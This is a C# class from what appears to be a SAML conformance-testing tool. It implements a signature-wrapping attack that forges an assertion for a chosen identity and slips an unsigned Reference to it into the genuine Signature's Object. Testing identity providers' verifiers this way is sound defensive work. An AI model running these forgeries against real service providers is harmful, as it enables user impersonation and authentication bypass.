using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A Reference to the forged element that stands in an Object of the genuine Signature, which no SignatureValue covers.</summary>
internal sealed class ReferenceInObject(TamperingArguments arguments) : Tampering
{
    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "reference-in-object",
            "Wraps the signed element, and adds to the Signature, where the schema allows it, an Object with a Reference that fits the forged element: "
            + "who looks for References below the Signature follows it like those that were signed.",
            "The IdP's signature verifies over the untouched genuine element; the added Reference holds the digest of the forged one.",
            [
                new("as", "What holds the Reference: a Manifest, the Object itself, or a SignedInfo in it.", ["manifest", "reference", "signed-info"], Required: true),
                new("genuine-at", "Where the genuine element stands.", ["response-extensions", "object-of-signature"], Required: true),
                new("genuine-keeps", "Whether the genuine element has its Signature still, as some look for it there.", ["signature", "nothing"], Required: true),
                Impersonation.Parameter,
            ]),
        arguments => new ReferenceInObject(arguments));

    public override string Name => "reference-in-object";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var wrapping = new Wrapping(work, "default", target, outOfOrder: false);
        var (own, behind) = (Dom.Clone(wrapping.Signature), wrapping.Signature.PreviousSibling);
        wrapping.SetForgedId("new");
        wrapping.Arrange("forged", arguments.Required("genuine-at"));
        wrapping.ClaimPotency(target);
        if (arguments.Required("genuine-keeps") == "signature")
        {
            wrapping.Genuine.InsertAfter(own, behind);
        }

        var signature = wrapping.Signature;
        var reference = Dom.Clone(XmlSigner.Descendant(signature, "Reference"));
        reference.SetAttribute("URI", "#" + wrapping.Forged.GetAttribute("ID"));
        XmlSigner.SetText(XmlSigner.Descendant(reference, "DigestValue"), Convert.ToBase64String(XmlSigner.Digest(wrapping.Forged, SignatureTemplate.From(work.Draft), signature)));
        Holders.Object(signature).AppendChild(Held(reference, signature));
        work.Claim(new ForgedDigestIsThere(wrapping.Forged.GetAttribute("ID")));
    }

    private XmlElement Held(XmlElement reference, XmlElement signature)
    {
        switch (arguments.Required("as"))
        {
            case "manifest":
                var manifest = signature.OwnerDocument.CreateElement(signature.Prefix, "Manifest", SamlNamespaces.XmlSignature);
                manifest.AppendChild(reference);
                return manifest;
            case "signed-info":
                var info = Dom.Clone(XmlSigner.Descendant(signature, "SignedInfo"));
                info.ReplaceChild(reference, Dom.Child(info, "Reference", SamlNamespaces.XmlSignature)!);
                return info;
            default:
                return reference;
        }
    }
}
